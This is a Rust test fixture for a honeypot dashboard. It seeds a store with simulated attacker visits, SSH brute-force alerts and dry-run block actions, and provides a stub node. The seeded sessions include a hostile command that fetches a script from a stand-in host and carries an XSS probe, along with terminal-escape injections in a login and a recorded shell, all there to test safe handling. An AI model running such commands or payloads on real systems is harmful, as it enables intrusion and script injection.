//! A node with something to show: a store with a day of visits, and a stand-in for the running node that
//! answers from what it was given. Shared by the tests and the `seeded` example.

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use phantom_api::{
    BlockOrder, Component, Counter, CounterKind, HoneypotStatus, Live, Node, NodeError, PolicyView,
    hash_password,
};
use phantom_core::event::{
    Action, Alert, Body, Closed, Command, Endpoint, Evidence, Login, Opened, Reason, Request, Score, Service,
    Severity, Transport,
};
use phantom_core::recording::{Cue, Entry};
use phantom_core::{Event, EventId, SessionId, Timestamp, micros};
use phantom_flow::PacketRow;
use phantom_store::{Role, Store, User};
use tokio::sync::broadcast;

pub(crate) const PASSWORD: &str = "a password for tests";
pub(crate) const ATTACKERS: [&str; 3] = ["198.51.100.7", "203.0.113.9", "2001:db8::66"];

/// Opens a store in `dir` with three users (`viewer`, `analyst`, `admin`) and visits up to `now`.
pub(crate) fn store(dir: &Path, now: Timestamp) -> Arc<Store> {
    let store = Store::open("sqlite:phantomnet.db", dir).unwrap();
    let hash = hash_password(PASSWORD).unwrap();
    for role in [Role::Viewer, Role::Analyst, Role::Admin] {
        let user = User { name: role.as_str().to_owned(), role, hash: hash.clone(), created: now };
        store.add_user(&user).unwrap();
    }
    let events: Vec<(u64, Arc<Event>)> = (1..).zip(events(now)).collect();
    let cursor = behind(events.len());
    store.ingest(&events, &cursor).unwrap();
    store.insert_packets(&packets(now, 40)).unwrap();
    Arc::new(store)
}

fn behind(events: usize) -> phantom_journal::Cursor {
    phantom_journal::Cursor::after(events as u64)
}

/// Visits of three attackers over the last hours, what was concluded and what was done.
pub(crate) fn events(now: Timestamp) -> Vec<Arc<Event>> {
    let mut made = Made { now, n: 0, events: Vec::new() };
    for (a, ip) in ATTACKERS.iter().enumerate() {
        let ip: IpAddr = ip.parse().unwrap();
        for visit in 0..6_u64 {
            made.visit(ip, a as u64 * 900 + visit * 1800 + 60, visit);
        }
    }
    made.events
}

struct Made {
    now: Timestamp,
    n: u64,
    events: Vec<Arc<Event>>,
}

impl Made {
    fn id(&mut self) -> [u8; 10] {
        self.n += 1;
        let mut random = [7; 10];
        random[..8].copy_from_slice(&self.n.to_be_bytes());
        random
    }

    fn push(
        &mut self,
        ago: u64,
        ip: IpAddr,
        session: Option<SessionId>,
        service: Service,
        body: Body,
    ) -> EventId {
        let at = self.now.checked_sub(Duration::from_secs(ago)).unwrap();
        let id = EventId::new(at, self.id());
        let mut event = Event::new(id, at, Arc::from("seeded"), body);
        event.service = Some(service);
        event.session = session;
        event.src = Some(Endpoint::new(ip, if session.is_some() { 40_000 } else { 0 }));
        event.dst = session.map(|_| Endpoint::new("192.0.2.10".parse().unwrap(), 2222));
        event.transport = session.map(|_| Transport::Tcp);
        self.events.push(Arc::new(event));
        id
    }

    fn visit(&mut self, ip: IpAddr, ago: u64, n: u64) {
        let at = self.now.checked_sub(Duration::from_secs(ago)).unwrap();
        let random = self.id();
        let session = Some(SessionId::new(at, random));
        let ssh = n.is_multiple_of(2);
        let service = if ssh { Service::SSH } else { Service::HTTP };
        self.push(ago, ip, session, service.clone(), Body::Opened(Opened {}));
        if ssh {
            let login = |secret: &str, accepted| {
                Body::Login(Login {
                    username: "root".into(),
                    secret: secret.into(),
                    method: "password".to_owned(),
                    accepted,
                })
            };
            self.push(ago - 1, ip, session, service.clone(), login("123456", false));
            self.push(ago - 2, ip, session, service.clone(), login("admin\u{202e}\u{1b}[2J", true));
            let line = b"wget http://203.0.113.66/\xff.sh; <script>alert(1)</script>".to_vec();
            let command = Body::Command(Command { line: line.into(), accepted: true });
            self.push(ago - 3, ip, session, service.clone(), command);
        } else {
            let request = Request {
                method: "GET".into(),
                target: "/.env".into(),
                version: "HTTP/1.1".into(),
                headers: vec![("User-Agent".into(), "probe/1".into())],
                status: 404,
                ..Request::default()
            };
            self.push(ago - 1, ip, session, service.clone(), Body::Request(request));
        }
        #[expect(clippy::cast_precision_loss, reason = "small numbers")]
        let value = (25 + 12 * (5 - n)) as f64;
        let level = if value >= 70.0 { Severity::High } else { Severity::Medium };
        let reason = Reason {
            name: "guesses".to_owned(),
            text: "guessed passwords of the SSH honeypot".to_owned(),
            points: value,
        };
        self.push(
            ago - 4,
            ip,
            None,
            service.clone(),
            Body::Score(Score { value, level, reasons: vec![reason] }),
        );
        if ssh {
            let alert = Alert {
                rule: "ssh_bruteforce".to_owned(),
                title: format!("SSH brute force from {ip}"),
                severity: Severity::High,
                score: value,
                technique: vec!["T1110".to_owned()],
                evidence: vec![Evidence { text: "2 logins in 2 s".to_owned(), event: None, session }],
                count: 2,
                first: at,
                last: at,
            };
            self.push(ago - 5, ip, None, service.clone(), Body::Alert(alert));
        }
        if n == 0 {
            let action = Action {
                what: "block".to_owned(),
                target: ip.to_string(),
                ttl: Some(3600),
                reason: "ssh_bruteforce".to_owned(),
                outcome: "dry_run".to_owned(),
            };
            self.push(ago - 6, ip, None, service.clone(), Body::Action(action));
        }
        let closed = Closed { duration_ms: 8_000, bytes_in: 900, bytes_out: 1_800, ..Closed::default() };
        self.push(ago - 8, ip, session, service, Body::Closed(closed));
    }
}

/// `n` packets of the last seconds.
pub(crate) fn packets(now: Timestamp, n: usize) -> Vec<PacketRow> {
    let of = |i: usize| PacketRow {
        at: micros(now) - i as i64 * 1000 - 1,
        src: ATTACKERS[i % 3].parse().unwrap(),
        dst: "192.0.2.10".parse().unwrap(),
        src_port: 40_000,
        dst_port: 2222,
        protocol: if i % 4 == 3 { 17 } else { 6 },
        length: 60 + i as u32 % 900,
        ttl: 57,
        tcp_flags: if i % 4 == 3 { 0 } else { 0x18 },
        payload_len: 8,
        flow_id: i as u64 % 5,
    };
    (0..n).rev().map(of).collect()
}

/// A node that remembers blocks and forwards what is sent through `live`.
pub(crate) struct Seeded {
    pub(crate) live: broadcast::Sender<Live>,
    pub(crate) blocked: Mutex<BTreeMap<IpAddr, BlockOrder>>,
    pub(crate) well: std::sync::atomic::AtomicBool,
    started: Timestamp,
}

impl Seeded {
    pub(crate) fn new(started: Timestamp) -> Arc<Self> {
        Arc::new(Self {
            live: broadcast::Sender::new(64),
            blocked: Mutex::default(),
            well: true.into(),
            started,
        })
    }
}

impl Node for Seeded {
    fn honeypots(&self) -> Vec<HoneypotStatus> {
        let of = |service: &str, port, state: &str, detail: Option<&str>| HoneypotStatus {
            service: service.to_owned(),
            state: state.to_owned(),
            detail: detail.map(str::to_owned),
            listen: vec![format!("0.0.0.0:{port}")],
            since: (state == "up").then_some(self.started),
            open: 1,
            sessions: 9,
            refused: 0,
            last_event: Some(self.started),
        };
        vec![
            of("ssh", 2222, "up", None),
            of("http", 8080, "up", None),
            of("ftp", 2121, "down", Some("port 2121 is in use")),
        ]
    }

    fn health(&self) -> Vec<Component> {
        let well = self.well.load(std::sync::atomic::Ordering::Relaxed);
        let part = |name: &str, ok, detail: &str| Component {
            name: name.to_owned(),
            ok,
            detail: Some(detail.to_owned()),
        };
        vec![part("store", true, "sqlite phantomnet.db"), part("capture", well, "on eth0")]
    }

    fn counters(&self) -> Vec<Counter> {
        vec![Counter {
            name: "phantomnet_events_total".to_owned(),
            help: "Events journalled".to_owned(),
            kind: CounterKind::Counter,
            labels: vec![("service".to_owned(), "ssh".to_owned())],
            value: 42.0,
        }]
    }

    fn subscribe(&self) -> broadcast::Receiver<Live> {
        self.live.subscribe()
    }

    fn recording(&self, _session: SessionId) -> Result<Option<Vec<u8>>, NodeError> {
        let cues = [
            (0, Cue::Resize { columns: 100, rows: 30 }),
            (1_000, Cue::Mark(b"shell".to_vec())),
            (500_000, Cue::Output(b"root@web:~# \x1b]0;stolen\x07".to_vec())),
            (1_500_000, Cue::Input(b"uname\r".to_vec())),
            (1_600_000, Cue::Output(b"uname\r\n\x1b[1;32mLinux\x1b[0m\r\nroot@web:~# ".to_vec())),
        ];
        let entries = cues.map(|(at, cue)| Entry { at, channel: 0, cue });
        Ok(Some(entries.iter().flat_map(Entry::lines).collect::<String>().into_bytes()))
    }

    fn policy(&self) -> PolicyView {
        PolicyView {
            mode: "dry-run".to_owned(),
            effective: "dry-run".to_owned(),
            detail: None,
            block_honeypots: false,
            block_internal: false,
            never_block: vec!["127.0.0.0/8".to_owned(), "::1".to_owned()],
            ladder: vec![600, 3600],
        }
    }

    fn block(&self, order: &BlockOrder) -> Result<Action, NodeError> {
        if order.ip.is_loopback() {
            return Err(NodeError::Refused(format!("{} is never blocked", order.ip)));
        }
        self.blocked.lock().unwrap().insert(order.ip, order.clone());
        Ok(Action {
            what: "block".to_owned(),
            target: order.ip.to_string(),
            ttl: order.ttl.map(|ttl| ttl.as_secs()),
            reason: order.why.clone(),
            outcome: "dry_run".to_owned(),
        })
    }

    fn unblock(&self, ip: IpAddr, by: &str) -> Result<Action, NodeError> {
        self.blocked.lock().unwrap().remove(&ip).ok_or(NodeError::NotBlocked(ip))?;
        Ok(Action {
            what: "unblock".to_owned(),
            target: ip.to_string(),
            ttl: None,
            reason: format!("by {by}"),
            outcome: "dry_run".to_owned(),
        })
    }
}
